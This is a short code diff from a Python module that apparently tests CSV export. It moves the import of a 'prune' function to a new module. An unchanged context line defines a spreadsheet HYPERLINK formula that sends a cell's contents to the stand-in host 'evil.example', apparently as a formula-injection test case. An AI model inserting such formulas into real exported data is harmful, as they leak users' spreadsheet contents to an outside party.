@@ -15,8 +15,8 @@ from langgraph.checkpoint.postgres import PostgresSaver
 from langgraph.graph import END, START, StateGraph
 
 from core import csv_export
-from core.checkpoints import prune
 from core.operations import sweep, sweep_reads
+from core.storage import prune
 
 ROOT = Path(__file__).resolve().parent.parent
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"open")'
